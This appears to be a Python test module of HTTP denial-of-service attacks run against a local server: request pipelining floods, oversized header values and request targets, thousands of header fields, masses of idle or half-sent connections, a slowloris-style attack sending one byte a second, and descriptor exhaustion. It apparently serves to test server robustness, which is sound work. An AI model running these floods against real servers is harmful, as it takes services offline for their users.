"""Attacks by connections, heads and requests that wait."""

import time
from contextlib import suppress

from attack_target import GIVE_UP_SECONDS, MIB, Target, is_closed, pause


def pipelined_requests(target: Target) -> bool:
    """Send requests without a pause, whose answers are never read."""
    requests = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 14_000
    return target.flood(target.connect(), b"", requests, 200 * MIB)


def pipelined_requests_on_many(target: Target) -> bool:
    """Send the same on many connections: a read of each."""
    requests = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 7_000
    connections = [target.connect() for _ in range(50)]
    for connection in connections:
        connection.setblocking(False)
        with suppress(OSError):
            target.sent += connection.send(requests)
    return target.ended(connections, read=False)


def one_value(target: Target) -> bool:
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nA: "
    return target.flood(target.connect(), head, b"a" * MIB, 200 * MIB)


def one_target(target: Target) -> bool:
    return target.flood(target.connect(), b"GET /", b"a" * MIB, 100 * MIB)


def many_fields(target: Target) -> bool:
    """Send 1.7 million fields."""
    fields = b"".join(b"x-%07d: %s\r\n" % (n, b"a" * 110) for n in range(8_000))
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
    return target.flood(target.connect(), head, fields, 200 * MIB)


def silent_connections(target: Target) -> bool:
    """Open 2,000 silent connections."""
    return target.ended([target.connect() for _ in range(2_000)])


def half_heads(target: Target) -> bool:
    """Open 2,000 connections with 60 KiB of a head on each."""
    half = b"GET / HTTP/1.1\r\nHost: localhost\r\nA: " + b"a" * (60 << 10)
    connections = []
    for _ in range(2_000):
        connections.append(target.connect())
        target.send(connections[-1], half)
    return target.ended(connections)


def a_byte_a_second(target: Target) -> bool:
    """Send 500 heads that never end, a byte a second."""
    left = [target.connect() for _ in range(500)]
    for connection in left:
        target.send(connection, b"GET / HTTP/1.1\r\nA: ")
    while left:
        if time.monotonic() - target.begun_at > GIVE_UP_SECONDS:
            return False
        left = [each for each in left if not is_closed(each) and target.send(each, b"a")]
        pause(1)  # The pause is the attack's pace.
    return True


def more_connections_than_descriptors(target: Target) -> bool:
    """Open 3,000 silent connections to a server that may have 1,024 files open."""
    return target.ended([target.connect() for _ in range(3_000)])
